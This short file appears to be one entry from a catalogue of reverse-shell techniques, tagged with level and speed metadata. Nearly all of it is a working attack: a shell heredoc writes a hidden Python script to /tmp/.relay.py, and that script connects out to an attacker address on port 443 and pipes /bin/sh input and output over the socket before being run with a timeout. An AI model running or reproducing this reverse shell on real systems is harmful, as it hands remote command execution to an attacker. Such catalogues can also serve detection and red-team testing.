# SPDX-License-Identifier: MIT
# technique: python script: a shell fed through pipes by a process holding the socket
# level: high
# quick: yes
cat >/tmp/.relay.py <<X
import socket, subprocess, threading
s = socket.create_connection(("$ATK", 443))
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def up():
    for chunk in iter(lambda: p.stdout.read1(4096), b""):
        s.sendall(chunk)
threading.Thread(target=up, daemon=True).start()
while True:
    data = s.recv(4096)
    if not data:
        break
    p.stdin.write(data); p.stdin.flush()
X
t0
timeout 8 python3 /tmp/.relay.py
